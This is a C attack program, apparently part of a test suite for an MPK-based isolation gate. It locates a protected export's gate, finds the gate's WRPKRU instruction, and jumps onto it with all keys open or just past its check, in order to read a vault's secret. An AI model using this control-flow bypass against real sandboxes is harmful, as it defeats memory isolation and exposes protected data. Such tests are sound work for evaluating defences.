/* Jumping into a gate: onto its WRPKRU with every key open in eax, or just
 * past it with the application's rights, as if its check had passed.
 * gate_jump onto|past */
#include "attack.h"

#include <stdint.h>

/* The gate behind a patched export: [endbr64] jmp stub; stub = mov r11d, id;
 * jmp *gate(%rip). */
static const uint8_t *gate_of(const uint8_t *entry, uint32_t *id)
{
    if (entry[0] == 0xf3 && entry[1] == 0x0f && entry[2] == 0x1e && entry[3] == 0xfa)
        entry += 4;
    if (entry[0] != 0xe9)
        return NULL;
    int32_t rel;
    memcpy(&rel, entry + 1, 4);
    const uint8_t *stub = entry + 5 + rel;
    if (stub[0] != 0x41 || stub[1] != 0xbb || stub[6] != 0xff || stub[7] != 0x25)
        return NULL;
    memcpy(id, stub + 2, 4);
    const uint8_t *gate;
    memcpy(&gate, stub + 12, 8);
    return gate;
}

struct jump {
    const uint8_t *target;
    uint32_t id;
    struct vault_cell *cell;
};

static const volatile uint8_t *steal(void *arg)
{
    struct jump *j = arg;
    __asm__ volatile("mov %1, %%r11d\n xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n"
                     "mov $0, %%edi\n call *%0"
                     ::"r"(j->target), "r"(j->id) : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
    return j->cell->secret;
}

int main(int argc, char **argv)
{
    vault_open();
    uint32_t id = 0;
    const uint8_t *gate = gate_of((const uint8_t *)vault_counter, &id);
    if (!gate)
        blocked("no gate found (not protected?)");
    const uint8_t *wrpkru = NULL;
    for (int i = 0; i < 4096 && !wrpkru; i++)
        if (gate[i] == 0x0f && gate[i + 1] == 0x01 && gate[i + 2] == 0xef)
            wrpkru = gate + i;
    if (!wrpkru)
        blocked("no WRPKRU in the gate");
    struct jump j = {argc > 1 && strcmp(argv[1], "past") == 0 ? wrpkru + 3 : wrpkru, id, vault_address(VAULT_DATA)};
    steal_in_child(steal, &j);
}
